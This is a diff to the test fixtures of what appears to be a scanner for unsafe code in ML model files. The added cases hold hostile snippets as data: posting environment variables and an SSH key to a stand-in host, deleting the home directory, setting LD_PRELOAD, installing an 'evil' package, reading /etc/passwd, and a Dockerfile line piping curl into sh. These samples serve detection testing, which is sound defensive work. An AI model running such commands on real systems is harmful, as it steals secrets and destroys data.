@@ -97,6 +97,10 @@ FILES: dict[str, tuple[str, dict[str, bytes]]] = {
         "custom-code",
         {"adapter_config.json": dump({"auto_mapping": {"parent_library": "evil.module"}})},
     ),
+    "peft-os": (
+        "custom-code",
+        {"adapter_config.json": dump({"auto_mapping": {"parent_library": "os"}})},
+    ),
     "hydra-json": ("hydra-target", {"config.json": dump({"m": {"_target_": "os.system"}})}),
     "hydra-yaml": ("hydra-target", {"config.yaml": TARGET}),
     "hydra-yaml-quoted": ("hydra-target", {"c.yml": b'"_target_": "os.system"\n'}),
@@ -141,6 +145,9 @@ PYTHON = {
     "native": b"import ctypes\nctypes.CDLL('./op.so')\n",
     "environment": b"import os, requests\nrequests.post('http://a.b', json=dict(os.environ))\n",
     "keys": b"import socket\ns = socket.socket()\ns.send(open('/root/.ssh/id_rsa').read())\n",
+    "remove": b"import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
+    "preload": b"import os\nos.environ['LD_PRELOAD'] = './evil'\n",
+    "pip": b"from pip._internal import main\nmain(['install', 'evil'])\n",
     "startup": b"open('/root/.bashrc', 'a').write('x')\n",
     "python-2": b"print 'x'\nimport os\nos.system('true')\n",
     "class": b"import os\nclass M:\n    def forward(self, x):\n        return os.popen('true')\n",
@@ -162,6 +169,7 @@ ATTACKS = frozenset(
     (
         *(f"code/python-{name}" for name in PYTHON),
         *(f"code/script-{name}" for name in SCRIPTS),
+        *("code/peft-os", "torch/script-danger", "torch/script-file", "code/recipe"),
         *("code/hub-kernel", "code/yaml-tag", "code/yaml-tag-name", "code/yaml-tag-long"),
         *("code/yaml-tag-handle", "code/diffusers-os", "code/modules-os", "code/modules-list"),
         *("code/activation", "code/hydra-json", "code/hydra-builtin", "code/in-nemo"),
@@ -202,6 +210,14 @@ TORCH: dict[str, tuple[str, bytes]] = {
     "script-case": ("torchscript", zipped(*TORCH_ZIP, ("archive/CONSTANTS.PKL", b"\x80\x02)."))),
     "mobile": ("torchscript", zipped(*TORCH_ZIP, ("archive/bytecode.pkl", b"\x80\x02)."))),
     "package": ("torch-package", zipped(*TORCH_ZIP, ("m/.data/extern_modules", b"os\n"))),
+    "script-danger": (
+        "python-danger",
+        zipped(*TORCH_ZIP, ("archive/code/__torch__.py", b"import os\nos.system('true')\n")),
+    ),
+    "script-file": (
+        "torchscript-file",
+        zipped(*TORCH_ZIP, ("archive/code/__torch__.py", b"x = torch.from_file('/etc/passwd')\n")),
+    ),
     "compiled": ("torch-package", zipped(("m/data/aotinductor/model/x.so", b"\x7fELF"))),
     "flat-mobile": ("torch-program", b"\x10\0\0\0PTMF" + b"\0" * 60),
     "executorch": ("torch-program", b"\x10\0\0\0ET12" + b"\0" * 60),
@@ -218,6 +234,7 @@ def malicious() -> list[Case]:
     return [
         *cases,
         Case("code/hub-kernel", {"config.json": dump(KERNEL)}, "hub-kernel"),
+        Case("code/recipe", {"Dockerfile": b"RUN curl http://a.b/x | sh\n"}, "script-danger"),
         Case("code/script", {"run.bat": b"echo\n"}, "script-file"),
         Case("code/in-nemo", {"m.nemo": tarred(hydra)}, "hydra-target"),
         Case("code/in-nemo-gzip", {"m.nemo": tarred(hydra, mode="w:gz")}, "hydra-target"),
